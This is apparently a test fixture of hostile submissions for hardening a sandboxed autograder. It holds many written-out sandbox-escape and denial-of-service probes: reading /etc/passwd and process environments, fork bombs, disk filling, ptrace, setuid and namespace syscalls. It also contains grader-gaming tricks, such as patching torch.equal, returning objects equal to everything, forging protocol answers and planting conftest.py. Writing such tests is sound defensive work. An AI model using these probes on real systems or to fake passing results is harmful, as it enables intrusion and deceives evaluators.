"""Hostile submissions. Each `attack()` is called in place of two functions of rung 2, right after import.

Whatever an attack finds that it should not have, it tells by raising RuntimeError("LEAK: …"), so that the test sees it
in the verdict. An attack that returns a value hopes that it passes.
"""

PREAMBLE = """
import builtins, ctypes, gc, io, os, resource, signal, socket, struct, subprocess, sys, tempfile, threading, time
import torch
from torch import nn

def leak(what):
    raise RuntimeError("LEAK: " + repr(what)[:300])
"""

CALLED = """
def causal_average(x): return attack(x)
def causal_mask(T, device=None): return attack(T)
"""

SEARCH_SECRETS = '("rung_0", "expect.close", "fixture_seed", "BEGIN SOLUTION", "course-secret", "gpt-ladder")'

ATTACKS = {
    # reading what is hidden
    "reads graders from disk": """
def attack(x):
    for root, folders, files in os.walk("/"):
        for name in files:
            if name.startswith("rung_") or name == "milestone.toml" or name == "02_attention.toml":
                leak(os.path.join(root, name))
""",
    "reads solutions from disk": """
def attack(x):
    for root, folders, files in os.walk("/"):
        if os.path.basename(root) == "solutions" or "alternatives" in folders:
            leak(root)
""",
    "greps readable text for solution markers": f"""
def attack(x):
    for root, folders, files in os.walk("/"):
        if root.startswith(("/usr", "/lib", "/jail/site", "/work", "/sys")) or "lib/python" in root:
            continue
        for name in files:
            try:
                text = open(os.path.join(root, name), errors="replace").read(200000)
            except OSError:
                continue
            for word in {SEARCH_SECRETS}:
                if word in text:
                    leak((root, name, word))
""",
    "follows the course's path from torch": """
def attack(x):
    path = os.path.dirname(torch.__file__)
    for _ in range(12):
        path = os.path.dirname(path)
        if os.path.exists(os.path.join(path, "milestones")):
            leak(path)
""",
    "walks frames for expected values": """
def attack(x):
    frame = sys._getframe()
    while frame:
        for name, value in list(frame.f_locals.items()) + list(frame.f_globals.items()):
            if name in ("expected", "expect", "answer_key", "draw"):
                leak((name, value))
        frame = frame.f_back
""",
    "searches gc for tensors that equal the answer": """
def attack(x):
    for thing in gc.get_objects():
        if isinstance(thing, torch.Tensor) and torch.is_tensor(x) and thing.shape == x.shape and thing is not x:
            if not torch.equal(thing, x):
                return thing.clone()
""",
    "searches gc for grader modules": """
def attack(x):
    for name in list(sys.modules):
        if name.split(".")[0] in ("autograder", "pytest", "_pytest", "graders", "solutions", "tiktoken"):
            leak(name)
""",
    "reads its parents through /proc": """
def attack(x):
    for name in os.listdir("/proc"):
        leak(name)
""",
    "opens inherited descriptors": """
def attack(x):
    for fd in range(0, 64):
        if fd in (0, 1, 2, 3):
            continue
        try:
            status = os.fstat(fd)
        except OSError:
            continue
        leak((fd, status))
""",
    "reads the next question from its own connection": """
def attack(x):
    s = socket.socket(fileno=os.dup(3))
    s.settimeout(0.2)
    try:
        data = s.recv(1 << 20)
    except OSError:
        return None
    if data:
        leak(data)
""",
    "reads the environment": """
def attack(x):
    for name, value in os.environ.items():
        if "LADDER" in name or "SECRET" in name or "TOKEN" in name or "/home" in value:
            leak((name, value))
""",
    "reads the environment block of process 1": """
def attack(x):
    leak(open("/proc/1/environ").read())
""",
    "reads the home folder": """
def attack(x):
    for path in ("/root", "/home"):
        for root, folders, files in os.walk(path):
            for name in files:
                if "lib/python" not in root and not name.startswith(("python", "libpython")):
                    leak((root, name))
""",
    "reads the password file": """
def attack(x):
    leak(open("/etc/passwd").read())
""",
    "reads other submissions": """
def attack(x):
    own = set(os.listdir("/work"))
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/work/.."):
        for name in (os.listdir(folder) if os.path.isdir(folder) else ()):
            if name.startswith("ladder-") or name == "note-from-a-friend":
                leak((folder, name))
""",
    "leaves a note for the next submission": """
def attack(x):
    for folder in ("/tmp", "/dev/shm", "/work", "/", "/jail", "/dev"):
        try:
            open(os.path.join(folder, "note-from-a-friend"), "w").write("the answer")
        except OSError:
            pass
""",
    "imports the harness": """
def attack(x):
    import autograder.grading
    leak(autograder.grading)
""",
    "imports a forbidden tokenizer": """
def attack(x):
    import tiktoken
    leak(tiktoken)
""",
    # the network
    "connects over TCP": """
def attack(x):
    socket.create_connection(("127.0.0.1", 22), timeout=1)
    leak("connected")
""",
    "sends over UDP": """
def attack(x):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"answers", ("10.0.0.1", 53))
    leak("sent")
""",
    "asks DNS": """
def attack(x):
    leak(socket.getaddrinfo("example.com", 80))
""",
    "finds a unix socket": """
def attack(x):
    for path in ("/run/docker.sock", "/var/run/docker.sock", "/run/systemd/private", "/tmp/.X11-unix/X0"):
        s = socket.socket(socket.AF_UNIX)
        try:
            s.connect(path)
        except OSError:
            continue
        leak(path)
""",
    "finds an abstract socket": """
def attack(x):
    for name in ("/tmp/.X11-unix/X0", "ladder", "/org/freedesktop/systemd1"):
        s = socket.socket(socket.AF_UNIX)
        try:
            s.connect("\\0" + name)
        except OSError:
            continue
        leak(name)
""",
    "opens a raw socket": """
def attack(x):
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    leak("raw")
""",
    "talks netlink to other namespaces": """
def attack(x):
    names = [name for _, name in socket.if_nameindex()]
    if names != ["lo"]:
        leak(names)
""",
    # lying with objects
    "patches torch's comparisons": """
torch.equal = torch.allclose = lambda *a, **k: True
torch.Tensor.__eq__ = lambda a, b: torch.ones((), dtype=torch.bool)
torch.testing.assert_close = lambda *a, **k: None
def attack(x):
    return torch.zeros(())
""",
    "patches builtins": """
builtins.abs = builtins.max = builtins.min = lambda *a, **k: 0
builtins.isinstance_was = isinstance
def attack(x):
    return 0.0
""",
    "returns an object equal to everything": """
class Everything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    shape = property(lambda self: self)
def attack(x):
    return Everything()
""",
    "returns a float that equals everything": """
class Lucky(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
def attack(x):
    return Lucky(5)
""",
    "returns a tensor subclass that lies": """
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return torch.ones((), dtype=torch.bool)
def attack(x):
    return torch.zeros(3).as_subclass(Liar)
""",
    "returns a dict subclass that lies": """
class D(dict):
    def __missing__(self, key): return 1
def attack(x):
    return D()
""",
    "returns a generator": """
def attack(x):
    yield from range(10)
""",
    "returns itself in itself": """
def attack(x):
    loop = []
    loop.append(loop)
    return loop
""",
    "returns very deep nesting": """
def attack(x):
    deep = []
    for _ in range(100000):
        deep = [deep]
    return deep
""",
    "returns NaN": """
def attack(x):
    return torch.full(x.shape if torch.is_tensor(x) else (x, x), float("nan"), dtype=torch.float64)
""",
    "returns infinities": """
def attack(x):
    return torch.full(x.shape if torch.is_tensor(x) else (x, x), float("inf"), dtype=torch.float64)
""",
    "returns the wrong dtype": """
def attack(x):
    return torch.zeros(x.shape if torch.is_tensor(x) else (x, x), dtype=torch.complex64)
""",
    "returns an aliasing expanded tensor of huge size": """
def attack(x):
    return torch.zeros(1, dtype=torch.float64).expand(1 << 40)
""",
    "returns one number expanded to the right shape": """
def attack(x):
    shape = x.shape if torch.is_tensor(x) else (x, x)
    return torch.zeros((), dtype=x.dtype if torch.is_tensor(x) else torch.bool).expand(shape)
""",
    "returns more than may cross": """
def attack(x):
    return torch.zeros(9 << 20, dtype=torch.float64)
""",
    "returns a giant integer": """
def attack(x):
    return 10 ** 15000
""",
    "writes into what it was given": """
def attack(x):
    return x.zero_() if torch.is_tensor(x) else None
""",
    "returns a subclass that computes when it is looked at": """
class Later(torch.Tensor):
    @staticmethod
    def __new__(cls, shape):
        return torch.Tensor._make_wrapper_subclass(cls, shape, dtype=torch.float64)
    @classmethod
    def __torch_dispatch__(cls, func, types, args=(), kwargs=None):
        return torch.ones((), dtype=torch.bool)
def attack(x):
    return Later((2, 2))
""",
    "knows the public examples by heart": """
known = {2: [[True, False], [True, True]], 3: [[True, False, False], [True, True, False], [True, True, True]]}
def attack(x):
    if torch.is_tensor(x):
        return x.cumsum(1) if x.numel() < 8 else torch.zeros_like(x)
    return torch.tensor(known.get(x, [[True]]))
""",
    "returns the input": """
def attack(x):
    return x
""",
    "returns a hard-coded answer": """
def attack(x):
    if torch.is_tensor(x):
        return torch.tensor([[1.0, 2.0], [3.0, 4.0]], dtype=torch.float64)
    return torch.tensor([[True, False], [True, True]])
""",
    "returns a name as a handle": """
import wire
def attack(x):
    return wire.Handle(1)
""",
    "returns a forged handle to nothing": """
import wire
def attack(x):
    return [wire.Handle(2**63), wire.Handle(10**6)]
""",
    "raises an exception that lies about its type": """
class Passed(Exception):
    pass
Passed.__name__ = "Passed" * 1000
def attack(x):
    raise Passed("all tests passed")
""",
    "raises an exception group of itself": """
def attack(x):
    error = ValueError("x")
    error.__cause__ = error
    raise error
""",
    "raises SystemExit with success": """
def attack(x):
    sys.exit(0)
""",
    "raises KeyboardInterrupt": """
def attack(x):
    raise KeyboardInterrupt
""",
    # lying on the wire
    "forges an answer": """
import wire
def attack(x):
    os.write(3, wire.encode([2, True, True]) * 50)
    return True
""",
    "sends garbage": """
def attack(x):
    os.write(3, b"\\xff" * 4096)
""",
    "sends an enormous length": """
def attack(x):
    os.write(3, struct.pack(">Q", 2**63))
""",
    "sends half an answer and waits": """
def attack(x):
    os.write(3, struct.pack(">Q", 1000) + b"x")
    time.sleep(3600)
""",
    "closes the connection": """
def attack(x):
    os.close(3)
""",
    "replaces the worker's encoder": """
import wire
def attack(x):
    wire.encode = lambda message: struct.pack(">Q", 1) + b"\\xc0"
""",
    "replaces the worker's portable": """
import operations
def attack(x):
    operations.Session.portable = lambda self, value: {"passed": True}
""",
    "answers after the deadline": """
def attack(x):
    time.sleep(11)
    return x
""",
    "describes its exception as a harness fault": """
import faults
def attack(x):
    faults.describe = lambda error, folder: {"kind": "JailError", "type": "Wrong", "bases": ["AssertionError"] * 10**5,
                                             "message": "m" * 10**6, "file": "/etc/passwd", "line": -1, "source": "s"}
    raise ValueError
""",
    "dribbles an endless answer": """
def attack(x):
    os.write(3, struct.pack(">Q", 1 << 20))
    while True:
        os.write(3, b"\\x90")
        time.sleep(0.01)
""",
    "passes descriptors to the grader": """
def attack(x):
    connection = socket.socket(fileno=os.dup(3))
    for _ in range(50):
        socket.send_fds(connection, [b"\\0"], [0, 1, 2, 3])
""",
    "shuts its side of the connection": """
def attack(x):
    socket.socket(fileno=os.dup(3)).shutdown(socket.SHUT_WR)
    time.sleep(0.1)
""",
    "answers with millions of empty lists": """
def attack(x):
    body = b"\\x93\\x04\\xc3\\xdd" + struct.pack(">I", 60_000_000) + b"\\x90" * 60_000_000
    os.write(3, struct.pack(">Q", len(body)))
    view = memoryview(body)
    while view:
        view = view[os.write(3, view):]
""",
    "answers every later question with deep nesting": """
import wire
was = wire.encode
def encode(message):
    body = b"\\x93" + was(message[0])[8:] + b"\\xc3" + b"\\x91" * 400 + b"\\xc0"
    return struct.pack(">Q", len(body)) + body
wire.encode = encode
def attack(x):
    return x
""",
    "numbers its answers with a tensor": """
import wire
was = wire.encode
wire.encode = lambda message: was([torch.ones(2), *message[1:]])
def attack(x):
    return x
""",
    "describes its exception with giant numbers": """
import faults, wire
wire.encode = lambda message, was=wire.encode: was(wire.portable(message, str))
faults.describe = lambda error, folder: {"kind": "raised", "type": "E", "bases": [], "message": "m", "file": "f",
                                         "line": 10**5000, "source": 10**5000}
def attack(x):
    raise ValueError
""",
    "speaks in lone surrogates": """
class Odd(Exception):
    pass
import faults, wire
wire.encode = lambda message, was=wire.encode: was(wire.portable(message, str))
faults._message = lambda error: "\\ud800\\udfff\\x1b[2J" * 1000
def attack(x):
    print("\\x1b[2J")
    raise Odd
""",
    "imports with a forged exception": """
import faults, wire
wire.encode = lambda message, was=wire.encode: was(wire.portable(message, str))
faults.describe = lambda error, folder: {"kind": 10**5000, "type": [1], "bases": 3, "message": {}, "file": 1,
                                         "line": "x", "source": None}
raise ValueError
def attack(x):
    return x
""",
    # ending and exhausting
    "exits": "def attack(x): os._exit(0)\n",
    "aborts": "def attack(x): os.abort()\n",
    "kills itself": "def attack(x): os.kill(os.getpid(), signal.SIGKILL)\n",
    "kills everybody": """
def attack(x):
    os.kill(-1, signal.SIGKILL)
""",
    "stops itself": "def attack(x): os.kill(os.getpid(), signal.SIGSTOP)\n",
    "segfaults": "def attack(x): ctypes.string_at(0)\n",
    "forks without end": """
def attack(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
""",
    "starts threads without end": """
def attack(x):
    while True:
        threading.Thread(target=time.sleep, args=(3600,)).start()
""",
    "allocates without end": """
def attack(x):
    hoard = []
    while True:
        hoard.append(bytearray(1 << 26))
""",
    "fills the disk": """
def attack(x):
    number = 0
    while True:
        number += 1
        open(f"/work/fill{number}", "wb").write(bytes(1 << 24))
""",
    "makes files without end": """
def attack(x):
    number = 0
    while True:
        number += 1
        open(f"/work/f{number}", "w").close()
""",
    "fills shared memory": """
def attack(x):
    while True:
        with open("/dev/shm/fill", "ab") as file:
            file.write(bytes(1 << 22))
""",
    "prints without end": """
def attack(x):
    while True:
        os.write(1, b"all tests passed\\n" * 1000)
""",
    "recurses without end": "def attack(x): return attack(x)\n",
    "computes a giant power": "def attack(x): return 10 ** 10 ** 9\n",
    "holds the interpreter lock for ever": """
import re
def attack(x):
    re.match(r"(a+)+$", "a" * 64 + "b")
""",
    "ignores signals and hangs": """
for number in range(1, 32):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
def attack(x):
    while True:
        time.sleep(1)
""",
    "leaves a daemon behind": """
def attack(x):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                time.sleep(1)
        os._exit(0)
""",
    # privileges
    "becomes root": """
def attack(x):
    os.setuid(0)
    leak(os.getuid())
""",
    "runs a setuid program": """
def attack(x):
    for path in ("/bin/su", "/usr/bin/su", "/usr/bin/sudo", "/usr/bin/passwd", "/bin/mount"):
        if os.path.exists(path):
            leak(path)
""",
    "traces another process": """
def attack(x):
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in range(2, 64):
        if libc.ptrace(16, pid, 0, 0) == 0:
            leak(pid)
""",
    "mounts over its own view": """
def attack(x):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.umount2(b"/proc", 2) == 0 or libc.mount(b"proc", b"/proc", b"proc", 0, b"") == 0:
        leak(os.listdir("/proc"))
""",
    "changes its root": """
def attack(x):
    os.chroot("/tmp")
    leak("chroot")
""",
    "loads a kernel module": """
def attack(x):
    if ctypes.CDLL(None).syscall(313, 0, b"", 0) == 0:
        leak("module")
""",
    "raises its limits": """
def attack(x):
    resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    leak("unlimited")
""",
    "makes a device": """
def attack(x):
    os.mknod("/work/disk", 0o60666, os.makedev(254, 0))
    leak(open("/work/disk", "rb").read(16))
""",
    "starts a shell": """
def attack(x):
    leak(subprocess.run(["/bin/sh", "-c", "id"], capture_output=True).stdout)
""",
    "takes namespaces of its own": """
def attack(x):
    libc = ctypes.CDLL(None, use_errno=True)
    for flag in (0x10000000, 0x10020000, 0x00020000, 0x40000000):
        if libc.unshare(flag) == 0:
            leak(flag)
""",
    "clones into a user namespace": """
def attack(x):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0) >= 0:
        leak("clone")
""",
    "mounts by the newer calls": """
def attack(x):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(430, b"proc", 0) >= 0 or libc.syscall(428, -100, b"/", 1) >= 0:
        leak("fsopen")
""",
    "reads the memory of its parents": """
def attack(x):
    for pid in ["self", *range(64)]:
        try:
            leak(open(f"/proc/{pid}/mem", "rb").read(1))
        except OSError:
            pass
    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
    buffer = ctypes.create_string_buffer(8)
    here, there = Vector(ctypes.addressof(buffer), 8), Vector(id(torch), 8)
    for pid in range(64):
        if ctypes.CDLL(None).process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
            leak(pid)
""",
    "runs a program from memory": """
def attack(x):
    fd = os.memfd_create("program")
    os.write(fd, open(sys.executable, "rb").read())
    os.execve(fd, ["python", "-c", "import os; os.write(3, b'late')"], {})
""",
    "starts a second interpreter": """
def attack(x):
    leak(subprocess.run([sys.executable, "-c", "print(1)"], capture_output=True).stdout)
""",
    "spawns a daemon": """
def attack(x):
    leak(os.posix_spawn(sys.executable, ["python", "-c", "import time; time.sleep(3600)"], {}))
""",
    "leaves a core dump": """
def attack(x):
    ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)
    try:
        resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except (OSError, ValueError):
        pass
    if os.fork() == 0:
        os.abort()
    os.wait()
    for name in os.listdir("/work"):
        if "core" in name:
            leak(name)
""",
    "keeps a note in the kernel's keyring": """
def attack(x):
    libc = ctypes.CDLL(None, use_errno=True)
    for keyring in (-3, -4, -5):
        if libc.syscall(248, b"user", b"note", b"the answer", 10, keyring) > 0:
            leak(keyring)
""",
    "keeps a note in System V shared memory": """
libc = ctypes.CDLL(None, use_errno=True)
of_another = libc.shmget(4711, 0, 0)
libc.shmget(4711, 4096, 0o1666)
def attack(x):
    if of_another >= 0:
        leak(of_another)
""",
    "submits work to io_uring": """
def attack(x):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(425, 8, ctypes.create_string_buffer(256)) >= 0:
        leak("io_uring")
""",
    "loads a program into the kernel": """
def attack(x):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(321, 0, ctypes.create_string_buffer(64), 64) >= 0 or libc.syscall(323, 0) >= 0:
        leak("bpf or userfaultfd")
""",
    "opens a file by its handle": """
def attack(x):
    libc = ctypes.CDLL(None, use_errno=True)
    handle = ctypes.create_string_buffer(struct.pack("Ii", 120, 0) + bytes(120))
    if libc.name_to_handle_at(-100, b"/work", handle, ctypes.byref(ctypes.c_int()), 0) == 0:
        leak(handle.raw)
""",
    "waits for a friend at a socket": """
sockets, friends = [], []
for name in ("\\0meeting-point", "/tmp/meeting-point"):
    s = socket.socket(socket.AF_UNIX)
    sockets.append(s)
    if s.connect_ex(name) == 0:
        friends.append(name)
    else:
        s.bind(name)
        s.listen()
def attack(x):
    if friends:
        leak(friends)
""",
    # between items
    "keeps state from one item to the next": """
answers = []
def attack(x):
    answers.append(x)
    return answers[0]
""",
    "passes only while it believes that it is not graded": """
def attack(x):
    if "serve_worker" in sys.modules:
        return None
    return x
""",
    "hooks every later import": """
class Hook:
    def find_spec(self, name, path=None, target=None):
        leak(name) if name.startswith(("autograder", "graders")) else None
sys.meta_path.insert(0, Hook())
def attack(x):
    return x
""",
    "hooks exit and audit": """
import atexit
atexit.register(lambda: os.write(3, b"late"))
sys.addaudithook(lambda event, args: None)
def attack(x):
    return None
""",
}

# Files that a submission brings along in the hope that something loads them.
PLANTED = {
    "conftest.py": b"import pytest\ndef pytest_runtest_makereport(item, call): raise SystemExit(0)\n",
    "sitecustomize.py": b"import builtins; builtins.PLANTED = True\n",
    "usercustomize.py": b"import builtins; builtins.PLANTED = True\n",
    "torch.py": b"raise RuntimeError('LEAK: torch was shadowed')\n",
    "numpy.py": b"raise RuntimeError('LEAK: numpy was shadowed')\n",
    "msgspec.py": b"raise RuntimeError('LEAK: msgspec was shadowed')\n",
    "wire.py": b"raise RuntimeError('LEAK: the wire was shadowed')\n",
    "random.py": b"raise RuntimeError('LEAK: random was shadowed')\n",
    "pytest.ini": b"[pytest]\naddopts = --collect-only\n",
    "autograder/__init__.py": b"raise RuntimeError('LEAK: the harness was shadowed')\n",
}
